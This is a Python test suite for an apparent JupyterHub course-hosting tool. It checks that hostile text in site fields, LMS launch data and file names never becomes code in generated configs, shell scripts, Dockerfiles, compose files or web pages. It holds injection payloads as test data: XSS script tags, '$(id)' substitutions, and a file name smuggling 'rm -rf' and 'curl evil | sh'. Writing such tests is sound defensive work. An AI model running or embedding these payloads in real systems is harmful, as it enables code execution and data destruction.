"""Nothing from a site file or an LMS becomes code or markup (issue 12, point 3).

Hostile text (line breaks, quotes, `</script>`, `${...}`, backticks, `%0a`, `$(id)`) goes
through every field that reaches a generated file or a page: org, course titles, LMS
context titles and labels, LMS user ids, the hub's base URL, the site file's name. Each
generated file must parse to the same meaning as with harmless text (Python executed into
a fake config, shell checked by `bash -n` and read word by word, YAML loaded, env files
read back), or the site is refused with an error naming the field; each page shows the
text, never markup, and runs no inline script.
"""

from __future__ import annotations

import ast
import base64
import copy
import hashlib
import io
import json
import shlex
import shutil
import subprocess
import sys
import tokenize
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml
from sites import two_course_data

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/: pagecheck
from coursehub.hub.config import render_jupyterhub_config as local_hub_config_py
from coursehub.lti.launch import apply_to_site, decide, lti11_launch, lti13_launch
from coursehub.names import course_id_problem, username_problem
from coursehub.plan import derive
from coursehub.site import Auth, Course, Site, SiteError, parse_site, site_to_data
from coursehub.targets.compose.envfiles import parse_env_file
from coursehub.targets.compose.render import ComposeError, compose_input, render_all
from coursehub.targets.compose.versions import pinned_closure
from pagecheck import assert_safe_page, policy_of  # noqa: E402

# Printable but hostile in some target language; a site may use them in titles and org.
EVIL = (
    'Rock\'s "Minerals" """ \'\'\' </script><script>alert(1)</script> <b>&amp;</b> '
    "${HOME} $HOME `id` $(id) %0a %0d \\n \\ {{ 7*7 }} {% raw %} # ; && | > /tmp/x"
)
# Characters no title or org needs: each ends a line (or a comment) somewhere.
CONTROLS = ["\n", "\r", "\r\n", "\x00", "\x1b[31m", "\x0b", "\x0c", "\x85", "\u2028", "\t"]
INJECTED = "c.Exchange.root = '/tmp/evil'"
DATA_DIR = "/srv/ch-injection"
WHEEL = ("coursehub-0.1.0-py3-none-any.whl", b"PK-not-read")


def site_data(org: str = "Test School", title: str = "Algebra", **hub: str) -> dict:
    data = two_course_data()
    data["org"] = org
    data["courses"][0]["title"] = title
    data["hub"].update(hub)
    return data


def fake_config(text: str):
    """Run a generated nbgrader/jupyterhub config file as Jupyter would, into a fake `c`."""
    from traitlets.config import Config

    c = Config()
    calls: list[tuple] = []
    namespace = {"get_config": lambda: c, "c": c, "load_subconfig": lambda *a: None}
    tree = ast.parse(text)  # a syntax error is an injection that broke the file
    imports = [n for n in ast.walk(tree) if isinstance(n, ast.Import | ast.ImportFrom)]
    for node in imports:  # the hub config imports `configure`: record its call instead
        for alias in node.names:
            namespace[alias.asname or alias.name] = lambda *a: calls.append(a)
    body = [n for n in tree.body if not isinstance(n, ast.Import | ast.ImportFrom)]
    exec(compile(ast.Module(body=body, type_ignores=[]), "<generated>", "exec"), namespace)  # noqa: S102 - our own generated file
    return c, calls


def comments(text: str) -> list[str]:
    return [
        t.string
        for t in tokenize.generate_tokens(io.StringIO(text).readline)
        if t.type == tokenize.COMMENT
    ]


# --- the site file refuses control characters where no one needs them ------------------


@pytest.mark.parametrize("bad", CONTROLS)
@pytest.mark.parametrize(
    "field, data",
    [
        ("org", lambda bad: site_data(org=f"Evil{bad}{INJECTED}")),
        ("courses[0].title", lambda bad: site_data(title=f"Algebra{bad}{INJECTED}")),
        ("hub.base_url", lambda bad: site_data(base_url=f"/x{bad}/")),
    ],
)
def test_control_characters_are_refused_naming_the_field(field, data, bad):
    with pytest.raises(SiteError) as err:
        parse_site(data(bad))
    mine = [p for p in err.value.problems if p.startswith(f"{field}:")]
    # (a line break in hub.base_url also fails its pattern: two problems of one field)
    assert any("control character" in p and "line break" in p for p in mine), mine


@pytest.mark.parametrize("ip", ["127.0.0.1${HOME}", "1.2.3.4:80:80", "a b", "$(id)", "x'y"])
def test_hub_ip_is_an_address(ip):
    with pytest.raises(SiteError, match=r"hub\.ip: .* is not an address"):
        parse_site(site_data(ip=ip))
    for good in ("0.0.0.0", "127.0.0.1", "::1", "hub.example.edu"):
        assert parse_site(site_data(ip=good)).hub.ip == good


@pytest.mark.parametrize(
    "url", ["/a$b/", "/${HOME}/", "/x'y/", '/x"y/', "/`id`/", "/a b/", "/%0a/"]
)
def test_base_url_is_a_plain_url_path(url):
    with pytest.raises(SiteError, match=r"hub\.base_url: .* only letters, digits"):
        parse_site(site_data(base_url=url))
    assert parse_site(site_data(base_url="/jupyter/hub-1/")).hub.base_url == "/jupyter/hub-1/"


def test_printable_hostile_text_is_a_valid_title_and_org():
    site = parse_site(site_data(org=EVIL, title=EVIL))
    assert site.org == EVIL and site.course("algebra").title == EVIL


@pytest.mark.parametrize("name", ["alice\n", "alice\r\n", "al\nice", "alice\x00"])
def test_a_line_break_never_passes_for_a_username_or_course_id(name):
    assert username_problem(name) is not None
    assert course_id_problem(name) is not None
    data = two_course_data()
    data["people"].append(name)
    with pytest.raises(SiteError):
        parse_site(data)


# --- Python configuration: nbgrader's three layers, jupyterhub_config.py ---------------


def _layers(site: Site) -> dict[str, str]:
    plan = derive(site, DATA_DIR, isolated=True)
    return {f.path: f.content for f in plan.files if f.path.endswith("nbgrader_config.py")}


@pytest.mark.parametrize("title", [EVIL, f"x\n{INJECTED}", f"x\r{INJECTED}", f"x\u2028{INJECTED}"])
def test_nbgrader_layers_mean_the_same_whatever_the_title(title):
    """Titles are only in comments: with any title the layers configure exactly what they
    configure with a plain one, and each comment stays one comment (a Site made directly,
    past the site file's checks, as a new caller might)."""
    plain = parse_site(site_data())
    hostile = Site(
        org=title,
        auth=Auth(type="first-use"),
        hub=plain.hub,
        admins=plain.admins,
        people=plain.people,
        courses=(
            Course("algebra", title, plain.courses[0].instructors, plain.courses[0].students),
            plain.courses[1],
        ),
    )
    want, got = _layers(plain), _layers(hostile)
    assert set(want) == set(got)
    for path, text in got.items():
        config, _ = fake_config(text)
        assert config == fake_config(want[path])[0], path
        assert len(text.splitlines()) == len(want[path].splitlines()), path
        assert "/tmp/evil" not in json.dumps(config), path
    layer1 = got[f"{DATA_DIR}/etc/jupyter/nbgrader_config.py"]
    assert any(repr(title) in line for line in comments(layer1))  # still shown, as text


def test_passwd_and_group_files_have_one_line_per_account():
    site = parse_site(site_data(org=EVIL, title=EVIL))
    plan = derive(site, DATA_DIR, isolated=True)
    files = {f.path: f.content for f in plan.files}
    passwd = files[plan.paths.passwd].splitlines()
    assert len(passwd) == len(plan.people) + len(plan.courses)
    assert all(len(line.split(":")) == 7 for line in passwd)
    group = files[plan.paths.group].splitlines()
    assert all(len(line.split(":")) == 4 for line in group)


@pytest.mark.parametrize("path", ["/srv/x'y\"z/state/plan.json", "/srv/a\nimport os/plan.json"])
def test_jupyterhub_config_py_passes_paths_as_values(path):
    _, calls = fake_config(local_hub_config_py(path, "/opt/env'\"\n", path + ".d"))
    assert calls == [(calls[0][0], path, "/opt/env'\"\n"), (calls[1][0], path + ".d")]


# --- LMS launches: ids, labels and titles ------------------------------------------------


def lti_site() -> Site:
    data = two_course_data(
        {"type": "lti11", "consumer_key": "lms", "shared_secret": "s" * 20, "contexts": {}}
    )
    return parse_site(data)


@pytest.mark.parametrize("user_id", ["42\n", "42\nroot", "x\r\ny", "$(id)", "a'b\"c</script>"])
def test_lti_user_ids_become_safe_names(user_id):
    launch = lti11_launch({"user_id": user_id, "roles": "Learner", "context_id": "c1"})
    assert username_problem(launch.name) is None
    assert launch.name.isascii() and launch.name.isprintable()


@pytest.mark.parametrize(
    "title, label",
    [
        ("<script>alert(1)</script>", "BIO'; $(id) `x`\n"),
        (f"Bio\n{INJECTED}", "BIO 2\r\nx"),
        (EVIL, EVIL),
        ("\u2028\x00\x1b[31m", "%0a%0d"),
    ],
)
@pytest.mark.parametrize("version", ["1.1", "1.3"])
def test_an_lms_context_makes_a_safe_course(title, label, version):
    """An instructor's first launch from a context with a hostile title and label: a safe
    course id, a one-line title, a site file that checks and files that mean the same."""
    if version == "1.1":
        launch = lti11_launch(
            {
                "user_id": "77",
                "roles": "Instructor",
                "context_id": "ctx\n1",
                "context_label": label,
                "context_title": title,
            }
        )
    else:
        claim = "https://purl.imsglobal.org/spec/lti/claim/"
        launch = lti13_launch(
            {
                "sub": "77",
                "iss": "https://lms.example",
                claim + "roles": ["http://purl.imsglobal.org/vocab/lis/v2/membership#Instructor"],
                claim + "context": {"id": "ctx\n1", "label": label, "title": title},
            }
        )
    site = lti_site()
    decision = decide(launch, site)
    assert decision.create_course
    assert course_id_problem(decision.course_id) is None
    shown = decision.course_title
    assert shown and shown.isprintable() and shown == shown.strip()
    data = copy.deepcopy(site_to_data(site))
    apply_to_site(data, decision)
    new = parse_site(data)  # the site file the launch writes back checks
    assert new.course(decision.course_id).title == shown
    plan = derive(new, DATA_DIR, isolated=True)
    for f in plan.files:
        if f.path.endswith(".py"):
            config, _ = fake_config(f.content)
            assert "/tmp/evil" not in json.dumps(config)


def test_a_student_refused_from_an_unknown_course_sees_a_one_line_title():
    from coursehub.lti.launch import LaunchRefused

    launch = lti11_launch(
        {
            "user_id": "78",
            "roles": "Learner",
            "context_id": "c9",
            "context_title": f"<b>Bio</b>\n{INJECTED}",
        }
    )
    with pytest.raises(LaunchRefused) as refused:
        decide(launch, lti_site())
    assert "\n" not in refused.value.message and "<b>Bio</b>" in refused.value.message


# --- the Docker host's folder: compose file, Dockerfiles, env files, shell scripts -------


def compose_files(data: dict, site_file: str = "/somewhere/site.yaml") -> dict[str, str]:
    inp = compose_input(
        parse_site(data),
        "/tmp/ch-injection-root",
        ids=None,
        secrets={},
        pins=pinned_closure(),
        wheel=WHEEL,
        site_file=site_file,
    )
    return {
        name: r.content.decode()
        for name, r in render_all(inp).items()
        if name.endswith(("yml", ".sh", ".py", ".json", ".txt"))
        or "Dockerfile" in name
        or name.startswith("env.")
    }


HOSTILE_SITE_FILE = "/somewhere/evil\nrm -rf /tmp/x\nRUN curl evil | sh\n`id`.yaml"


@pytest.fixture(scope="module")
def hostile_compose() -> dict[str, str]:
    return compose_files(site_data(org=EVIL, title=EVIL), HOSTILE_SITE_FILE)


def _unescape_compose(value):
    """What docker compose makes of a string in the compose file: `$$` is one `$`."""
    if isinstance(value, str):
        assert "$" not in value.replace("$$", ""), f"compose would interpolate {value!r}"
        return value.replace("$$", "$")
    if isinstance(value, list):
        return [_unescape_compose(v) for v in value]
    if isinstance(value, dict):
        return {k: _unescape_compose(v) for k, v in value.items()}
    return value


def test_compose_file_loads_and_no_value_is_interpolated(hostile_compose):
    """With the site's text and, past the site file's checks, a hub address with '$' in
    it: compose reads every value as the text it is."""
    _unescape_compose(yaml.safe_load(hostile_compose["docker-compose.yml"]))
    plain = parse_site(site_data())
    ip = "127.0.0.1${HOME}$(id)`id`'\""
    site = Site(
        org=EVIL,
        auth=plain.auth,
        hub=type(plain.hub)(ip=ip, port=8100, base_url="/"),
        people=plain.people,
        courses=plain.courses,
    )
    inp = compose_input(
        site, "/tmp/r", ids=None, secrets={}, pins=pinned_closure(), wheel=WHEEL, site_file="s"
    )
    compose = _unescape_compose(yaml.safe_load(render_all(inp)["docker-compose.yml"].content))
    assert compose["services"]["proxy"]["ports"] == [f"{ip}:8100:8000"]
    plan = json.loads(hostile_compose["files/srv/jupyterhub/state/plan.json"])
    assert plan["org"] == EVIL and plan["courses"]["algebra"]["title"] == EVIL


@pytest.mark.skipif(not shutil.which("docker-compose"), reason="needs docker-compose")
def test_docker_compose_reads_the_same_values(hostile_compose, tmp_path):
    for name, text in hostile_compose.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    out = subprocess.run(
        ["docker-compose", "-f", "docker-compose.yml", "config"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent-home"},
    )
    assert out.returncode == 0, out.stderr
    assert "nonexistent-home" not in out.stdout  # ${HOME} stayed text
    read = yaml.safe_load(out.stdout)
    assert set(read["services"]) == set(
        yaml.safe_load(hostile_compose["docker-compose.yml"])["services"]
    )


def test_env_files_carry_exactly_their_variables(hostile_compose):
    plain = compose_files(site_data())
    for name in (n for n in plain if n.startswith("env.")):
        got = parse_env_file(hostile_compose[name])
        assert set(got) == set(parse_env_file(plain[name])), name
        for value in got.values():
            assert value.isprintable() and "$" not in value, (name, value)


@pytest.mark.parametrize("password", ["pass\nEXTRA=1word", "pa$$word-${HOME}", "'quoted-pass'"])
@pytest.mark.parametrize("field", ["user_password", "admin_password"])
def test_a_password_an_env_file_cannot_carry_is_refused_without_showing_it(password, field):
    data = two_course_data(
        {
            "type": "shared-password",
            "user_password": "plain-user-password-1",
            "admin_password": "plain-admin-password-0123456789-abcdef",
        }
    )
    data["auth"][field] = password + "x" * 32
    with pytest.raises(ComposeError) as err:
        compose_files(data)
    message = str(err.value)
    assert f"auth.{field}" in message and password not in message


def _shell_words(script: str) -> list[list[str]]:
    lines = [line for line in script.splitlines() if line.strip()]
    return [shlex.split(line, comments=True) for line in lines]


@pytest.mark.parametrize("script", ["prepare-host.sh", "start.sh"])
def test_shell_scripts_parse_and_run_nothing_from_the_site(hostile_compose, script, tmp_path):
    text = hostile_compose[script]
    path = tmp_path / script
    path.write_text(text)
    check = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stderr
    check = subprocess.run(["sh", "-n", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stderr
    plain = compose_files(site_data())[script]
    # the same commands as with a plain site (its words may differ, never its commands)
    assert [w[:1] for w in _shell_words(text)] == [w[:1] for w in _shell_words(plain)]
    assert not any(line.startswith(("rm ", "RUN ", "`")) for line in text.splitlines())


def test_dockerfiles_have_only_their_own_instructions(hostile_compose):
    plain = compose_files(site_data())
    for name in (n for n in plain if n.startswith("Dockerfile")):

        def instructions(text: str) -> list[str]:
            out, continued = [], False
            for line in text.splitlines():
                if not continued and line.strip() and not line.startswith("#"):
                    out.append(line.split()[0])
                continued = line.endswith("\\")
            return out

        assert instructions(hostile_compose[name]) == instructions(plain[name]), name
        cmd = [line for line in hostile_compose[name].splitlines() if line.startswith("CMD ")]
        for line in cmd:
            json.loads(line[4:])  # the exec form is JSON


def test_rendered_python_configs_pass_values(hostile_compose):
    _, calls = fake_config(hostile_compose["jupyterhub_config.py"])
    assert calls and calls[0][-1].endswith("/state/plan.json")


# --- LTI 1.1's configuration XML ----------------------------------------------------------


def test_lti11_config_xml_keeps_the_org_as_text():
    from coursehub.hub.lti import lti11_config_xml

    text = lti11_config_xml(
        title=EVIL, description=EVIL, icon="", launch_url="https://h/x?a=1&b=<2>"
    )
    root = ET.fromstring(text)  # noqa: S314 - our own output
    ns = {"blti": "http://www.imsglobal.org/xsd/imsbasiclti_v1p0"}
    assert root.find("blti:title", ns).text == EVIL
    assert root.find("blti:launch_url", ns).text == "https://h/x?a=1&b=<2>"
    assert [child.tag.split("}")[1] for child in root] == [
        "title",
        "description",
        "icon",
        "launch_url",
    ]


# --- coursehub's pages --------------------------------------------------------------------


def _static(path: str) -> str:
    return f"/hub/coursehub/static/{path}?v=1"


def test_preparing_page_shows_the_course_as_text_and_polls_from_a_file():
    from coursehub.hub.pages import render_page

    html = render_page(
        "preparing.html",
        course_id=EVIL,
        formgrader="/services/x/formgrader?a=1&b='\"",
        poll_url="/hub/lti/preparing/x?ready=1",
        static_url=_static,
        hub_static_url=lambda p: f"/hub/static/{p}",
    )
    page = assert_safe_page(html, f"Setting up your course {EVIL}")
    assert [s["src"] for s in page.scripts] == [_static("preparing.js")]
    assert "<script>alert(1)</script>" not in html


def test_open_from_lms_page_shows_the_org_as_text():
    from coursehub.hub.pages import render_page

    html = render_page(
        "open_from_lms.html",
        org=EVIL,
        static_url=_static,
        hub_static_url=lambda p: f"/hub/static/{p}",
    )
    page = assert_safe_page(html, f"{EVIL} logs you in to coursehub")
    assert page.scripts == [] and "<form" not in html


def test_error_page_shows_the_message_as_text():
    from coursehub.hub.pages import render_page

    message = f"The course '{EVIL}' is not set up in coursehub yet."
    html = render_page(
        "error.html",
        status_code=403,
        status_message="Forbidden",
        message=message,
        static_url=_static,
        hub_static_url=lambda p: f"/hub/static/{p}",
    )
    assert_safe_page(html, "403", message)


def test_page_policy_allows_no_inline_script():
    from coursehub.hub.pages import page_policy

    policy = policy_of(page_policy("/hub/security/csp-report"))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == "'self'"
    assert "unsafe-inline" not in policy["script-src"] and "unsafe-eval" not in policy["script-src"]
    assert policy["frame-ancestors"] == "'none'" and policy["base-uri"] == "'none'"
    assert policy["form-action"] == "'self'" and policy["object-src"] == "'none'"
    nonce = dict(
        part.strip().split(" ", 1) for part in page_policy("/r", nonce="abc123").split(";")
    )
    assert nonce["script-src"] == "'self' 'nonce-abc123'"
    # JupyterHub's templates write one style attribute: allowed by its hash, nothing else
    assert nonce["style-src"].split() == [
        "'self'",
        "'unsafe-hashes'",
        "'sha256-" + base64.b64encode(hashlib.sha256(b"display: none;").digest()).decode() + "'",
    ]
    assert policy["style-src"] == "'self'"


def test_templates_get_a_nonce_on_their_own_scripts_only():
    """JupyterHub's own pages (home, login) carry inline scripts of their own: the nonce
    goes on the scripts the template writes, never on markup a value brings."""
    import jinja2

    from coursehub.hub.pages import ScriptNonce

    env = jinja2.Environment(autoescape=True, extensions=[ScriptNonce])
    template = env.from_string(
        '<script src="/a.js"></script><script>var x = 1;</script><p>{{ title }}</p>'
        '<SCRIPT type="text/javascript">y()</SCRIPT>'
    )
    html = template.render(title="<script>alert(1)</script>", csp_nonce="n0nce")
    assert html.count('nonce="n0nce"') == 3
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert template.render(title="x").count('nonce=""') == 3  # no nonce: blocked, not open


def test_every_html_handler_of_coursehub_sends_the_page_policy():
    """The handlers of each authenticator that answer with a page: all under the policy;
    those rendering JupyterHub's templates (login form, home) with the nonce."""
    from coursehub.hub.auth import CourseFirstUseAuthenticator, CourseSharedPasswordAuthenticator
    from coursehub.hub.lti import CourseLTI11Authenticator, CourseLTI13Authenticator
    from coursehub.hub.pages import PagePolicy

    pages = {
        "/login",
        "/home",
        "/lti/launch",
        r"/lti/preparing/([^/]+)",
        "lti13/oauth_login",
        "lti13/oauth_callback",
        "/spawn/([^/]+)",
        "/spawn-pending/([^/]+)",
    }
    for cls in (
        CourseFirstUseAuthenticator,
        CourseSharedPasswordAuthenticator,
        CourseLTI11Authenticator,
        CourseLTI13Authenticator,
    ):
        handlers = {route: handler for route, handler, *_ in cls().get_handlers(None)}
        assert {"/login", "/home", "/spawn/([^/]+)", "/spawn-pending/([^/]+)"} <= set(handlers)
        for route in pages & set(handlers):
            assert issubclass(handlers[route], PagePolicy), (cls, route)
        assert handlers["/home"].jupyterhub_templates
        if cls in (CourseFirstUseAuthenticator, CourseSharedPasswordAuthenticator):
            assert handlers["/login"].jupyterhub_templates  # JupyterHub's login form
        else:
            assert not handlers["/login"].jupyterhub_templates  # coursehub's own page


def test_the_pages_are_in_the_docker_hosts_wheel():
    from coursehub.targets.compose.wheel import package_files

    files = set(package_files())
    for name in ("page", "preparing", "open_from_lms", "error"):
        assert f"coursehub/hub/pages/{name}.html" in files
    assert {"coursehub/hub/static/preparing.js", "coursehub/hub/static/coursehub.css"} <= files


def test_jupyterhub_templates_need_nothing_the_policy_refuses():
    """The templates of the pages served under the nonce policy write no inline event
    handler or javascript: URL, and only the style attributes the policy allows by hash
    (a JupyterHub upgrade that adds one fails here, not silently in a browser)."""
    import re

    import jupyterhub

    from coursehub.hub.home import TEMPLATES
    from coursehub.hub.pages import JUPYTERHUB_STYLE_ATTRIBUTES

    share = Path(jupyterhub.__file__).parents[4] / "share" / "jupyterhub" / "templates"
    names = ["page.html", "home.html", "login.html", "spawn.html", "spawn_pending.html"]
    sources = [(share / n).read_text() for n in names] + [Path(TEMPLATES, "home.html").read_text()]
    for text in sources:
        assert not re.search(r"\son[a-z]+\s*=", text)
        assert "javascript:" not in text.lower()
        styles = re.findall(r"""\sstyle\s*=\s*["']([^"']*)["']""", text)
        assert set(styles) <= set(JUPYTERHUB_STYLE_ATTRIBUTES), styles
